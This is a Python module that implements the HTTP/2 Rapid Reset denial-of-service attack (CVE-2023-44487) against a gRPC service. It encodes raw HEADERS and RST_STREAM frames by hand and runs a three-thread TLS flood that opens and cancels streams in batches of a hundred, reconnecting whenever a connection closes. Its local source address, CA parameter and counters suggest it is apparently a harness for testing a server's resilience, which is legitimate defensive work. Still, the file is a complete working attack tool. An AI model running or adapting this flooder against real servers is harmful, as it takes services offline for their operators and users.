"""The attack of CVE-2023-44487: clients that open calls and reset them immediately, without pause."""

import socket
import ssl
import struct
import threading
import time

_HEADERS, _RST_STREAM, _SETTINGS = 1, 3, 4
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
# Ends before a connection runs out of stream ids.
_LAST_STREAM = 1 << 30


def _frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _header(index, value):
    """By HPACK: a name of its static table, and a value that nobody keeps."""
    name = bytes([index]) if index < 15 else bytes([15, index - 15])
    return name + bytes([len(value)]) + value


# POST, http, :path, :authority, content-type, and a name of its own: te.
_CALL = (
    b"\x83\x86"
    + _header(4, b"/sis.v1.RatioService/Append")
    + _header(1, b"server")
    + _header(31, b"application/grpc")
    + b"\x00\x02te\x08trailers"
)


def _calls(first):
    """Returns the bytes that open a hundred calls, from the stream `first` on, and the bytes that reset them."""
    streams = range(first, first + 200, 2)
    return (
        b"".join(_frame(_HEADERS, _END_HEADERS, stream, _CALL) for stream in streams),
        b"".join(_frame(_RST_STREAM, 0, stream, _CANCEL) for stream in streams),
    )


class ResetFlood:
    """Three connections over TLS, and new ones where they are closed, from an address of their own.
    `ca`: the path of the authority's certificate."""

    SOURCE = "127.0.0.2"

    def __init__(self, address, seconds, ca):
        host, port = address.rsplit(":", 1)
        self._tls = ssl.create_default_context(cafile=ca)
        self._tls.set_alpn_protocols(["h2"])
        self._address = (host, int(port))
        self._begin, self._seconds = time.monotonic(), seconds
        # Calls that were sent, and connections that were refused or closed, per thread.
        self._sent, self._closed = [0] * 3, [0] * 3
        self._threads = [threading.Thread(target=self._attack, args=(i,)) for i in range(3)]
        for thread in self._threads:
            thread.start()

    def alive(self):
        return self.progress() < 1

    def progress(self):
        """How much of its time is over: 1 at its end, and more then."""
        return (time.monotonic() - self._begin) / self._seconds

    def is_refused(self):
        """Whether its address gets no connection now."""
        try:
            self._connect().close()
        except OSError:
            return True
        return False

    def join(self):
        """How many calls were sent, and how many connections were refused or closed."""
        for thread in self._threads:
            thread.join()
        return sum(self._sent), sum(self._closed)

    def _connect(self):
        connection = self._tls.wrap_socket(socket.socket(), server_hostname=self._address[0])
        try:
            connection.settimeout(1)
            connection.bind((self.SOURCE, 0))
            connection.connect(self._address)
        except OSError:
            connection.close()
            raise
        return connection

    def _attack(self, index):
        while self.alive():
            try:
                with self._connect() as connection:
                    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0))
                    for stream in range(1, _LAST_STREAM, 200):
                        if not self.alive():
                            return
                        # In one piece, or so that the calls are under way before they are reset.
                        calls, resets = _calls(stream)
                        if index == 0:
                            connection.sendall(calls + resets)
                        else:
                            connection.sendall(calls)
                            time.sleep(0.001)
                            connection.sendall(resets)
                        self._sent[index] += 100
                        self._read(connection)
            except OSError:
                self._closed[index] += 1
                time.sleep(0.001)

    @staticmethod
    def _read(connection):
        """Reads the answers that have arrived, so that the server never waits for space to send them."""
        connection.setblocking(False)
        try:
            while connection.recv(1 << 16):
                pass
            raise ConnectionError("closed")
        except ssl.SSLWantReadError:
            connection.settimeout(1)
